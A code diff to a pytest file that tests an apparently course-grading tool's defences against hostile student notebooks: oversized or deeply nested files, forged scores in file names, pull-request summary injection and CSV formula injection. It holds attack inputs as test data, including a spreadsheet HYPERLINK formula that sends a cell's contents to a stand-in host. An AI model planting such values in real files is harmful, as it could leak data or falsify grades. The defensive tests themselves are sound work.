@@ -18,6 +18,7 @@ from dataclasses import asdict
 from pathlib import Path
 
 import pytest
+from grading_tools import full_marks
 from markdown_it import MarkdownIt
 from notebook_tools import ROOT, STUB
 from test_ci import copy_course
@@ -51,13 +52,18 @@ def deep_notebook() -> bytes:
     ).encode()
 
 
+ADDED_CELLS = 100_000
+# the assignment's cells and those the attack adds, as the reason counts them
+MANY_CELLS = len(json.loads(STUB["backprop"].read_text(encoding="utf-8"))["cells"]) + ADDED_CELLS
+
+
 def many_cells_notebook() -> bytes:
-    """The assignment (30 cells) with 100,000 Markdown cells added: a valid notebook, which nbformat
+    """The assignment with 100,000 Markdown cells added: a valid notebook, which nbformat
     took half a minute to validate."""
     nb = json.loads(STUB["backprop"].read_text(encoding="utf-8"))
     nb["cells"] += [
         {"cell_type": "markdown", "id": f"m{i}", "metadata": {}, "source": f"note {i}"}
-        for i in range(100_000)
+        for i in range(ADDED_CELLS)
     ]
     return json.dumps(nb).encode()
 
@@ -68,7 +74,7 @@ def large_notebook() -> bytes:
 
 ATTACKS = {  # name -> (notebook bytes, what the reason says)
     "deep": (deep_notebook, f"nests its JSON more than {MAX_JSON_DEPTH} levels deep"),
-    "many-cells": (many_cells_notebook, f"has 100,030 cells, more than the {MAX_CELLS:,}"),
+    "many-cells": (many_cells_notebook, f"has {MANY_CELLS:,} cells, more than the {MAX_CELLS:,}"),
     "large": (large_notebook, f"more than the {MAX_NOTEBOOK_BYTES // 2**20} MiB"),
 }
 
@@ -93,7 +99,7 @@ def test_the_limits_refuse_before_the_time_goes(tmp_path: Path) -> None:
     path = tmp_path / "backprop.ipynb"
     path.write_bytes(many_cells_notebook())
     started = time.perf_counter()
-    with pytest.raises(NotebookError, match="has 100,030 cells"):
+    with pytest.raises(NotebookError, match=f"has {MANY_CELLS:,} cells"):
         load_notebook(path)
     assert time.perf_counter() - started < 5
 
@@ -146,8 +152,9 @@ def test_the_pytest_form_says_why(attack, tmp_path: Path) -> None:
 
 # --- a class whose names are attacks (`autograde grade`) -----------------------------------
 
-# "15/15" as a file name can hold it: "/" is a folder's end, so the division slash
-FAKE_SCORE = "15\u221515"
+# full marks ("15/15") as a file name can hold them: "/" is a folder's end, so the
+# division slash
+FAKE_SCORE = f"{full_marks('backprop')}\u2215{full_marks('backprop')}"
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no /: a folder's name
 CLASS = {  # student folder -> its notebook
     "grades.csv": deep_notebook,
@@ -242,7 +249,8 @@ def test_csv_cells_round_trip_and_never_start_a_formula() -> None:
 
 def test_numbers_stay_numbers(tmp_path: Path) -> None:
     who = Submitted("-ann", "ann/backprop", "/c/-ann/backprop.ipynb")
-    record = Record(score=0, output="x", seed=-7, max_score=15, status="graded", submitted=who)
+    full = full_marks("backprop")
+    record = Record(score=0, output="x", seed=-7, max_score=full, status="graded", submitted=who)
     write_grades_csv([record], tmp_path / "grades.csv")
     with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as f:
         [row] = list(csv.DictReader(f))
@@ -299,7 +307,7 @@ def ci_grade(course, rel: str, data: bytes, out: Path) -> tuple[int, str]:
 def test_a_notebook_s_name_cannot_write_the_pr_summary(
     course, tmp_path: Path, capsys: pytest.CaptureFixture
 ) -> None:
-    """The red team's file name: its real 0/15 shown, no heading of its own, no comment
+    """The red team's file name: its real 0 points shown, no heading of its own, no comment
     left open to hide what follows."""
     rel = f"assignments/backprop/{INJECTED}.ipynb"
     code, summary = ci_grade(course, rel, STUB["backprop"].read_bytes(), tmp_path / "out")
@@ -307,7 +315,8 @@ def test_a_notebook_s_name_cannot_write_the_pr_summary(
     html = render(summary)
     [title, report] = headings(html)
     assert title == "autograde: pull request grading"
-    assert report.endswith("(backprop): 0/15") and FAKE_SCORE in report  # the name, as text
+    assert report.endswith(f"(backprop): 0/{full_marks('backprop')}")
+    assert FAKE_SCORE in report  # the name, as text
     assert "<!--" not in html
     assert "❌ failed" in html and (tmp_path / "out" / "summary.md").read_text() == summary
     # the artifact: a results.json in a folder any artifact takes
